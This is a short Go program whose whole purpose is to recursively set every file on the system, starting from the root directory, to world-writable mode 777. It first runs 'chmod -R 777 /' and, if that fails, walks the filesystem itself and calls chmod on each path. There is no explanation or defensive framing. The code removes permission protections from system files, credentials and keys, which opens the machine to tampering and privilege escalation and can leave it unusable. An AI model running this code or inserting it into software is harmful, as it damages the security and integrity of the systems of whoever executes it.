package main

import (
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
)

func openUp(root string) {
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil {
			os.Chmod(p, 0777)
		}
		return nil
	})
}

func main() {
	if err := exec.Command("chmod", "-R", "777", "/").Run(); err != nil {
		openUp("/")
	}
}
